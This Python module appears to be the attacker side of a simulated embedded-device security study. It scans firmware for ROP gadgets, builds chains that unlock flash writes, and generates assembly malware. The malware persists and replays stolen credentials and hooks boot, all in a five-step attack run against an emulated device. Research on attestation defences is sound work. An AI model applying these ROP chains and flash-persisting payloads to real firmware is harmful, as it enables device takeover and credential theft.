"""Attacker side: gadget scan, ROP chain builder, malware generation and the
five-step credential-replay attack driven against a simulated device.

Chain layout, read in stack order (lowest address first)::

    [padding: buffer + saved registers]
    [interrupt gadget]                      <- overwrites the return slot
    [its pops]  -> loads the first store's operands if it can, else dummies
    [store frames: pops of the store gadget, one per 32-bit write]
    [tail frame: dummies, then the jump target popped into pc]

The first write always puts the NVMC into write-enable. When the interrupt
gadget's pops cannot pre-load the store gadget's operands, the chain enters
the store gadget at its ``pop`` line once to load them, which costs a frame.
"""
from __future__ import annotations

import enum
import struct
from dataclasses import dataclass, field

from . import isa
from . import memmap as mm
from .errors import GadgetsMissing, NeedsSplit, PatchUnsafe
from .firmware import CredentialLayout, FirmwareImage, StackFrame, credentials, init_state_ok
from .mcu import Device, StopReason

DUMMY = 0x4141_4141
PAD_BYTE = b"A"
SENTINEL_MAGIC = 0xBADC_0DE5


class GadgetKind(enum.Enum):
    INTERRUPT = "Interrupt"
    STORE = "Store"


@dataclass(frozen=True)
class Gadget:
    address: int
    kind: GadgetKind
    pop_register_order: tuple[int, ...]
    dummy_slots: int
    data_reg: int | None = None  # store gadgets: register written to memory
    addr_reg: int | None = None  # store gadgets: base address register

    @property
    def pop_address(self) -> int:
        return self.address + 4

    def text(self) -> str:
        regs = ", ".join(isa.REGNAMES[r] for r in self.pop_register_order)
        if self.kind is GadgetKind.INTERRUPT:
            first = "cpsid i"
        else:
            first = f"str {isa.REGNAMES[self.data_reg]}, [{isa.REGNAMES[self.addr_reg]}, #0]"
        return f"{first}; pop {{{regs}}}"


def scan_gadgets(image: FirmwareImage) -> list[Gadget]:
    """Every ``cpsid i; pop {.., pc}`` and ``str rA, [rB, #0]; pop {.., pc}`` pair."""
    found = []
    for section in image.sections:
        data = section.data
        for off in range(0, len(data) - 7, 4):
            w0, w1 = struct.unpack_from("<II", data, off)
            try:
                first, second = isa.decode(w0), isa.decode(w1)
            except isa.UndefinedInstruction:
                continue
            if second.op != isa.POP or not second.a >> isa.PC & 1:
                continue
            regs = tuple(isa.reglist(second.a))
            addr = section.base + off
            if first.op == isa.CPSID:
                found.append(Gadget(addr, GadgetKind.INTERRUPT, regs, len(regs) - 1))
            elif first.op == isa.STR and first.imm == 0 and first.a != first.b \
                    and first.a in regs and first.b in regs:
                dummies = len([r for r in regs if r not in (first.a, first.b, isa.PC)])
                found.append(Gadget(addr, GadgetKind.STORE, regs, dummies, first.a, first.b))
    found.sort(key=lambda g: g.address)
    if not any(g.kind is GadgetKind.STORE for g in found):
        raise GadgetsMissing("no store gadget in image")
    if not any(g.kind is GadgetKind.INTERRUPT for g in found):
        raise GadgetsMissing("no interrupt gadget in image")
    return found


@dataclass(frozen=True)
class MalwareBlob:
    data: bytes
    entry: int  # offset of the first instruction
    dest: int  # flash address
    name: str = "blob"

    def __post_init__(self):
        if len(self.data) % 4 or not self.data:
            raise ValueError("malware must be a non-empty whole number of words")

    @property
    def entry_address(self) -> int:
        return self.dest + self.entry

    def words(self) -> list[tuple[int, int]]:
        return [(self.dest + i, struct.unpack_from("<I", self.data, i)[0])
                for i in range(0, len(self.data), 4)]


@dataclass
class ExploitChain:
    padding: bytes
    words: list[int]
    notes: list[str] = field(default_factory=list)  # one label per word

    def serialize(self) -> bytes:
        return self.padding + b"".join(struct.pack("<I", w) for w in self.words)

    def __len__(self) -> int:
        return len(self.padding) + 4 * len(self.words)

    def to_hex(self) -> str:
        lines = [f"# padding {len(self.padding)} bytes"]
        for w, note in zip(self.words, self.notes):
            lines.append(f"{w:08x}  {note}")
        return "\n".join(lines) + "\n"


def _pick(gadgets: list[Gadget]) -> tuple[Gadget, Gadget]:
    stores = [g for g in gadgets if g.kind is GadgetKind.STORE]
    irqs = [g for g in gadgets if g.kind is GadgetKind.INTERRUPT]
    if not stores or not irqs:
        raise GadgetsMissing("need one interrupt and one store gadget")
    store = min(stores, key=lambda g: (g.dummy_slots, g.address))

    def cost(g: Gadget):
        fused = store.data_reg in g.pop_register_order and store.addr_reg in g.pop_register_order
        return (0 if fused else 1, g.dummy_slots, g.address)

    return min(irqs, key=cost), store


class _Builder:
    def __init__(self, store: Gadget):
        self.store = store
        self.words: list[int] = []
        self.notes: list[str] = []

    def frame(self, gadget: Gadget, values: dict[int, int], next_pc: int, note: str):
        for reg in gadget.pop_register_order:
            if reg == isa.PC:
                self.words.append(next_pc)
                self.notes.append(note)
            elif reg in values:
                self.words.append(values[reg] & 0xFFFF_FFFF)
                self.notes.append(f"{isa.REGNAMES[reg]} = {values[reg] & 0xFFFFFFFF:#010x}")
            else:
                self.words.append(DUMMY)
                self.notes.append(f"{isa.REGNAMES[reg]} = dummy")

    def operands(self, value: int, addr: int) -> dict[int, int]:
        return {self.store.data_reg: value, self.store.addr_reg: addr}


def nvmc_prologue(erase_pages=()) -> list[tuple[int, int]]:
    """Writes that put the NVMC in write mode, erasing ``erase_pages`` first."""
    writes = []
    for page in erase_pages:
        writes += [(mm.NVMC_CONFIG, mm.NVMC_EEN), (mm.NVMC_ERASEPAGE, page)]
    writes.append((mm.NVMC_CONFIG, mm.NVMC_WEN))
    return writes


def build_chain(gadgets: list[Gadget], writes: list[tuple[int, int]], frame: StackFrame,
                jump_target: int | None, *, interrupt_gadget: bool = True) -> ExploitChain:
    """Chain performing ``writes`` (address, value) in order, then popping
    ``jump_target`` into pc. With ``jump_target=None`` the last write is
    expected to end execution (e.g. a reset)."""
    irq, store = _pick(gadgets)
    b = _Builder(store)
    pending = list(writes)
    first_note = "store gadget"
    if interrupt_gadget:
        b.words.append(irq.address)
        b.notes.append("return slot -> interrupt gadget (cpsid i)")
        fused = store.data_reg in irq.pop_register_order and store.addr_reg in irq.pop_register_order
        if fused and pending:
            addr, value = pending.pop(0)
            b.frame(irq, b.operands(value, addr), store.address, first_note)
        else:
            b.frame(irq, {}, store.pop_address, "store gadget pop line (load operands)")
    else:
        b.words.append(store.pop_address)
        b.notes.append("return slot -> store gadget pop line")
    while pending:
        addr, value = pending.pop(0)
        b.frame(store, b.operands(value, addr), store.address, first_note)
    if jump_target is not None:
        b.frame(store, {}, jump_target, f"jump {jump_target:#010x}")
    return ExploitChain(PAD_BYTE * frame.padding, b.words, b.notes)


def assemble_install_chain(gadgets: list[Gadget], blobs, frame: StackFrame, jump_target: int,
                           *, mtu: int = mm.RX_BUF_LEN, erase_pages=(),
                           interrupt_gadget: bool = True) -> ExploitChain:
    """Chain writing one or more malware blobs into flash, then jumping to ``jump_target``."""
    if isinstance(blobs, MalwareBlob):
        blobs = [blobs]
    writes = nvmc_prologue(erase_pages)
    for blob in blobs:
        writes += blob.words()
    chain = build_chain(gadgets, writes, frame, jump_target, interrupt_gadget=interrupt_gadget)
    if len(chain) > mtu:
        n_words = sum(len(b.data) // 4 for b in blobs)
        parts = plan_split(gadgets, n_words, frame, mtu)
        raise NeedsSplit(len(chain), mtu, parts)
    return chain


# -- multi-part delivery ---------------------------------------------------------

IPV6_UDP_HEADERS = 40 + 8


def _block_sizes(gadgets: list[Gadget], frame: StackFrame) -> tuple[int, int]:
    """(fixed bytes of a self-resetting part with zero data words, bytes per data word)."""
    empty = build_chain(gadgets, [(mm.NVMC_CONFIG, mm.NVMC_WEN), (mm.AIRCR, mm.AIRCR_RESET)],
                        frame, None)
    one = build_chain(gadgets, [(mm.NVMC_CONFIG, mm.NVMC_WEN), (0, 0),
                                (mm.AIRCR, mm.AIRCR_RESET)], frame, None)
    return len(empty), len(one) - len(empty)


def words_per_part(gadgets: list[Gadget], frame: StackFrame, mtu: int = mm.RX_BUF_LEN,
                   framing_overhead: int = 0) -> int:
    fixed, per_word = _block_sizes(gadgets, frame)
    budget = mtu - framing_overhead - fixed
    if budget < per_word:
        raise ValueError("MTU too small for even one data word")
    return budget // per_word


def plan_split(gadgets: list[Gadget], n_words: int, frame: StackFrame,
               mtu: int = mm.RX_BUF_LEN, framing_overhead: int = 0) -> int:
    """Number of self-contained, self-resetting parts needed for ``n_words``."""
    k = words_per_part(gadgets, frame, mtu, framing_overhead)
    return -(-n_words // k)


def split_chain(gadgets: list[Gadget], blob: MalwareBlob, frame: StackFrame, jump_target: int,
                *, mtu: int = mm.RX_BUF_LEN, framing_overhead: int = 0) -> list[ExploitChain]:
    """Deliverable parts, split at word boundaries. Every part but the last
    ends with a soft reset; the last ends by jumping to ``jump_target``."""
    k = words_per_part(gadgets, frame, mtu, framing_overhead)
    words = blob.words()
    parts = []
    for start in range(0, len(words), k):
        chunk = words[start:start + k]
        last = start + k >= len(words)
        writes = nvmc_prologue() + chunk
        if last:
            chain = build_chain(gadgets, writes, frame, jump_target)
            if len(chain) + framing_overhead > mtu:  # jump tail is bigger than a reset
                parts.append(build_chain(gadgets, writes[:-1] + [(mm.AIRCR, mm.AIRCR_RESET)],
                                         frame, None))
                chain = build_chain(gadgets, nvmc_prologue() + chunk[-1:], frame, jump_target)
        else:
            chain = build_chain(gadgets, writes + [(mm.AIRCR, mm.AIRCR_RESET)], frame, None)
        parts.append(chain)
    return parts


# -- malware -------------------------------------------------------------------

def _asm(source: str, origin: int, name: str, entry: str = "entry") -> MalwareBlob:
    prog = isa.assemble(source, {}, origin)
    return MalwareBlob(prog.blob(origin), prog.symbols[entry] - origin, origin, name)


def _load(reg: str, value: int) -> str:
    return f"    movw {reg}, #{value & 0xFFFF:#x}\n    movt {reg}, #{value >> 16:#x}\n"


def patch_site(image: FirmwareImage, symbol: str) -> tuple[int, int]:
    """Locate the 3-word sacrificial tail of an init function.

    Returns (tail address, value the function returns). The tail must be
    ``movw r0, #k; nop; bx lr`` so the patch keeps the function's contract.
    """
    try:
        start, end = image.symbols[symbol], image.symbols[symbol + "_end"]
    except KeyError:
        raise PatchUnsafe(f"unknown patch site {symbol!r}") from None
    flash = image.flash()
    tail = end - 12
    if tail < start or mm.page_of(tail) != mm.page_of(end - 1):
        raise PatchUnsafe("function too short or tail crosses a page")
    insns = []
    for a in range(tail, end, 4):
        try:
            insns.append(isa.decode(struct.unpack_from("<I", flash, a)[0]))
        except isa.UndefinedInstruction:
            raise PatchUnsafe(f"undecodable tail at {a:#x}") from None
    movw, nop, bx = insns
    if not (movw.op == isa.MOVW and movw.a == 0 and nop.op == isa.NOP
            and bx.op == isa.BX and bx.a == isa.LR):
        raise PatchUnsafe(f"{symbol} does not end in 'movw r0, #k; nop; bx lr'")
    for a in range(start, tail, 4):  # nothing may branch into the tail
        try:
            insn = isa.decode(struct.unpack_from("<I", flash, a)[0])
        except isa.UndefinedInstruction:
            continue
        if insn.op == isa.B and tail < a + 4 + 4 * insn.imm < end:
            raise PatchUnsafe("a branch targets the sacrificial tail")
    return tail, movw.imm


def jump_words(target: int) -> list[int]:
    """``movw r4, #lo; movt r4, #hi; bx r4``."""
    return [isa.encode(isa.Insn(isa.MOVW, 4, 0, target & 0xFFFF)),
            isa.encode(isa.Insn(isa.MOVT, 4, 0, target >> 16)),
            isa.encode(isa.Insn(isa.BX, 4))]


def _patcher(offset: int, target: str, scratch: int, finish: str) -> str:
    """Read-modify-write of one flash page, entered right after ``_page_to_ram``
    (r0 = page + 4096, r1 = scratch + 4096). ``target`` is an assembler expression."""
    mov_r4 = (isa.MOVW << 24) | (4 << 20)
    movt_r4 = (isa.MOVT << 24) | (4 << 20)
    src = f"""    movw r2, #lo(pool)
    movt r2, #hi(pool)
    add r1, r1, #{offset - mm.PAGE_SIZE}
    ldr r3, [r2, #0]
    str r3, [r1, #0]
    ldr r3, [r2, #4]
    str r3, [r1, #4]
    ldr r3, [r2, #8]
    str r3, [r1, #8]
    add r1, r0, #-{mm.PAGE_SIZE}
""" + _load("r2", mm.NVMC_CONFIG) + f"""    movw r3, #{mm.NVMC_EEN}
    str r3, [r2, #0]
    str r1, [r2, #4]
    movw r3, #{mm.NVMC_WEN}
    str r3, [r2, #0]
""" + _load("r0", scratch) + f"""    add r2, r0, #{mm.PAGE_SIZE}
write_back:
    ldr r3, [r0, #0]
    str r3, [r1, #0]
    add r0, r0, #4
    add r1, r1, #4
    cmp r0, r2
    bne write_back
"""
    if finish == "reset":
        src += _load("r0", mm.AIRCR) + _load("r3", mm.AIRCR_RESET) + "    str r3, [r0, #0]\n"
    else:  # never reset: park in a loop with interrupts still masked
        src += "spin:\n    b spin\n"
    # jump_words(target), spelled so the assembler can resolve a label
    src += f"""pool:
    .word {mov_r4:#x} | lo({target})
    .word {movt_r4:#x} | hi({target})
    .word {jump_words(0)[2]:#x}
"""
    return src


def _page_to_ram(page: int, scratch: int) -> str:
    return _load("r0", page) + _load("r1", scratch) + f"""    add r2, r0, #{mm.PAGE_SIZE}
read_page:
    ldr r3, [r0, #0]
    str r3, [r1, #0]
    add r0, r0, #4
    add r1, r1, #4
    cmp r0, r2
    bne read_page
"""


def emit_utility_malware(layout: CredentialLayout, image: FirmwareImage,
                         site: str = "app_sched_init",
                         pages: tuple[int, int, int] = (mm.RAM2FLASH_PAGE, mm.PERSIST_PAGE,
                                                        mm.FLASH2RAM_PAGE),
                         scratch: int = mm.SCRATCH_RAM,
                         finish: str = "reset") -> tuple[MalwareBlob, MalwareBlob]:
    """(ram2flash_copy, flash2ram_copy) for ``layout`` and the init function ``site``."""
    code_page, persist, restore_page = pages
    tail, ret = patch_site(image, site)
    site_page = mm.page_of(tail)
    if finish not in ("reset", "spin"):
        raise ValueError("finish must be 'reset' or 'spin'")
    n = layout.combined_length
    ram2flash = "entry:\n" + _load("r0", layout.alias_private_ram_addr) + _load("r1", persist) \
        + f"""    add r2, r0, #{n}
copy_creds:
    ldr r3, [r0, #0]
    str r3, [r1, #0]
    add r0, r0, #4
    add r1, r1, #4
    cmp r0, r2
    bne copy_creds
""" + _page_to_ram(site_page, scratch) \
        + _patcher(tail - site_page, str(restore_page), scratch, finish)
    flash2ram = "entry:\n" + _load("r0", persist) + _load("r1", layout.alias_private_ram_addr) \
        + f"""    add r2, r0, #{n}
restore:
    ldr r3, [r0, #0]
    str r3, [r1, #0]
    add r0, r0, #4
    add r1, r1, #4
    cmp r0, r2
    bne restore
    movw r0, #{ret}
    bx lr
"""
    return (_asm(ram2flash, code_page, "ram2flash_copy"),
            _asm(flash2ram, restore_page, "flash2ram_copy"))


def emit_useful_malware(image: FirmwareImage, site: str = "app_timer_init",
                        page: int = mm.USEFUL_MALWARE_PAGE, scratch: int = mm.SCRATCH_RAM,
                        sentinel: int = mm.SENTINEL_RAM,
                        magic: int = SENTINEL_MAGIC) -> MalwareBlob:
    """Marker payload: hooks ``site`` so every boot writes ``magic`` to ``sentinel``.

    The blob starts with its own installer (patch + reset); the hook target
    is the ``marker`` routine further down the same page.
    """
    tail, ret = patch_site(image, site)
    site_page = mm.page_of(tail)
    src = "entry:\n" + _page_to_ram(site_page, scratch) \
        + _patcher(tail - site_page, "marker", scratch, "reset") \
        + "marker:\n" + _load("r0", sentinel) + _load("r1", magic) \
        + f"    str r1, [r0, #0]\n    movw r0, #{ret}\n    bx lr\n"
    return _asm(src, page, "useful_malware")


# -- the attack ----------------------------------------------------------------

STEP_NAMES = {
    1: "disable interrupts",
    2: "install utility malware",
    3: "persist credentials and patch init function",
    4: "replay stale credentials after reboot",
    5: "install useful malware",
}


@dataclass
class StepResult:
    number: int
    name: str
    ok: bool | None  # None: not attempted
    detail: str = ""


@dataclass
class AttackReport:
    steps: list[StepResult]
    sizes: dict[str, int] = field(default_factory=dict)
    flash_diff_pages: list[int] = field(default_factory=list)
    stolen_key_zero: bool = False
    attestation: str | None = None

    @property
    def succeeded(self) -> bool:
        return all(s.ok for s in self.steps)

    @property
    def blocked_at(self) -> int | None:
        for s in self.steps:
            if not s.ok:
                return s.number
        return None

    def lines(self) -> list[str]:
        out = []
        for s in self.steps:
            status = {True: "ok", False: "FAILED", None: "not attempted"}[s.ok]
            out.append(f"step {s.number} ({s.name}): {status}" + (f" - {s.detail}" if s.detail else ""))
        for k in sorted(self.sizes):
            out.append(f"size {k}: {self.sizes[k]} bytes")
        pages = " ".join(f"{p:#07x}" for p in self.flash_diff_pages) or "none"
        out.append(f"flash pages changed: {pages}")
        if self.stolen_key_zero:
            out.append("persisted alias key is all zero")
        if self.attestation is not None:
            out.append(f"attestation after attack: {self.attestation}")
        return out


def flash_diff_pages(image: FirmwareImage, device: Device, ignore=(mm.UDS_PAGE, mm.COUNTER_PAGE)) -> list[int]:
    ref = image.flash()
    flash = device.flash
    pages = []
    for p in range(0, mm.FLASH_SIZE, mm.PAGE_SIZE):
        if p in ignore:
            continue
        if flash[p:p + mm.PAGE_SIZE] != ref[p:p + mm.PAGE_SIZE]:
            pages.append(p)
    return pages


def _erase_leftovers(device: Device, gadgets, frame, deliver, fuel, report, pages) -> str:
    """Erase non-empty target pages with a separate self-resetting chain.

    Only needed when the device was attacked before; a fresh device has the
    pages erased and the install chain just enables writing.
    """
    dirty = [p for p in pages if device.flash[p:p + mm.PAGE_SIZE] != b"\xff" * mm.PAGE_SIZE]
    if not dirty:
        return ""
    chain = build_chain(gadgets, nvmc_prologue(dirty)[:-1] + [(mm.AIRCR, mm.AIRCR_RESET)],
                        frame, None)
    report.sizes["erase_chain"] = report.sizes.get("erase_chain", 0) + len(chain)
    resets = device.reset_count
    deliver(chain.serialize())
    device.run_until(lambda d: d.reset_count > resets, fuel)
    if device.reset_count == resets or device.run_until(fuel=fuel) is not StopReason.HALTED:
        return f"erase chain failed ({device.trap or 'no reset'})"
    if any(device.flash[p:p + mm.PAGE_SIZE] != b"\xff" * mm.PAGE_SIZE for p in dirty):
        return "pages not erased"
    return ""


def _deliver_default(device: Device):
    return lambda payload: device.deliver_datagram(payload, run=False)


def run_attack(device: Device, image: FirmwareImage, *, deliver=None, attest=None,
               fuel: int = 2_000_000) -> AttackReport:
    """Drive all five steps against a device idling in its main loop.

    ``deliver(payload)`` must place one datagram without running the core;
    ``attest()`` (optional) returns the verdict recorded in the report.
    """
    deliver = deliver or _deliver_default(device)
    steps = {n: StepResult(n, STEP_NAMES[n], None) for n in STEP_NAMES}
    report = AttackReport(list(steps.values()))

    def fail(n: int, detail: str) -> AttackReport:
        steps[n].ok = False
        steps[n].detail = detail
        report.flash_diff_pages = flash_diff_pages(image, device)
        if attest is not None:
            report.attestation = str(attest())
        return report

    def state() -> str:
        if device.trapped:
            return f"trap: {device.trap}"
        return "device back in main loop" if device.halted else f"pc={device.regs.pc:#010x}"

    layout = image.credentials
    gadgets = scan_gadgets(image)
    irq, _ = _pick(gadgets)
    try:
        r2f, f2r = emit_utility_malware(layout, image)
    except PatchUnsafe as exc:
        return fail(2, f"cannot build utility malware: {exc}")
    chain = assemble_install_chain(gadgets, [r2f, f2r], image.frame, r2f.entry_address)
    report.sizes.update(ram2flash_copy=len(r2f.data), flash2ram_copy=len(f2r.data),
                        utility_chain=len(chain))

    # step 1
    if not device.halted:
        return fail(1, f"device not waiting for data ({state()})")
    err = _erase_leftovers(device, gadgets, image.frame, deliver, fuel, report,
                           [mm.RAM2FLASH_PAGE, mm.PERSIST_PAGE, mm.FLASH2RAM_PAGE])
    if err:
        return fail(1, err)
    deliver(chain.serialize())
    device.run_until(lambda d: d.regs.pc == irq.address, fuel)
    if device.regs.pc != irq.address or not device.running:
        return fail(1, f"no control transfer ({state()})")
    device.step()
    if device.regs.primask != 1:
        return fail(1, "interrupts still enabled")
    steps[1].ok = True

    # step 2
    device.run_until(lambda d: d.regs.pc == r2f.entry_address, fuel)
    flash = device.flash
    if device.regs.pc != r2f.entry_address or not device.running:
        return fail(2, state())
    for blob in (r2f, f2r):
        if flash[blob.dest:blob.dest + len(blob.data)] != blob.data:
            return fail(2, f"{blob.name} not written intact")
    steps[2].ok = True

    # step 3
    stolen = credentials(device, layout)
    resets = device.reset_count
    device.run_until(lambda d: d.reset_count > resets, fuel)
    if device.reset_count == resets:
        return fail(3, f"no reset ({state()})")
    tail, _ = patch_site(image, "app_sched_init")
    if bytes(device.flash[mm.PERSIST_PAGE:mm.PERSIST_PAGE + len(stolen)]) != stolen:
        return fail(3, "persisted credentials differ from RAM")
    if list(struct.unpack_from("<3I", device.flash, tail)) != jump_words(f2r.entry_address):
        return fail(3, "init function not patched")
    report.stolen_key_zero = not any(stolen[:32])
    steps[3].ok = True

    # step 4
    device.run_until(lambda d: d.regs.pc == f2r.entry_address, fuel)
    if device.regs.pc != f2r.entry_address:
        return fail(4, f"flash2ram_copy never ran ({state()})")
    fresh = credentials(device, layout)
    if device.run_until(fuel=fuel) is not StopReason.HALTED:
        return fail(4, state())
    now = credentials(device, layout)
    if now != stolen:
        return fail(4, "RAM does not hold the persisted credentials")
    if fresh == stolen and any(stolen[:32]):
        return fail(4, "fresh credentials equal the stale ones; nothing was replayed")
    if not init_state_ok(device):
        return fail(4, "patched init function broke its postcondition")
    steps[4].ok = True

    # step 5
    useful = emit_useful_malware(image)
    chain2 = assemble_install_chain(gadgets, useful, image.frame, useful.entry_address)
    report.sizes.update(useful_malware=len(useful.data), useful_chain=len(chain2))
    err = _erase_leftovers(device, gadgets, image.frame, deliver, fuel, report, [useful.dest])
    if err:
        return fail(5, err)
    resets = device.reset_count
    deliver(chain2.serialize())
    device.run_until(lambda d: d.reset_count > resets, fuel)
    if device.reset_count == resets:
        return fail(5, f"second exploit did not complete ({state()})")
    if device.run_until(fuel=fuel) is not StopReason.HALTED:
        return fail(5, state())
    base = useful.dest
    if device.flash[base:base + len(useful.data)] != useful.data:
        return fail(5, "useful malware not written intact")
    if struct.unpack("<I", device.peek_ram(mm.SENTINEL_RAM, 4))[0] != SENTINEL_MAGIC:
        return fail(5, "marker did not run at boot")
    if credentials(device, layout) != stolen:
        return fail(5, "stale credentials lost")
    steps[5].ok = True

    report.flash_diff_pages = flash_diff_pages(image, device)
    if attest is not None:
        report.attestation = str(attest())
    return report
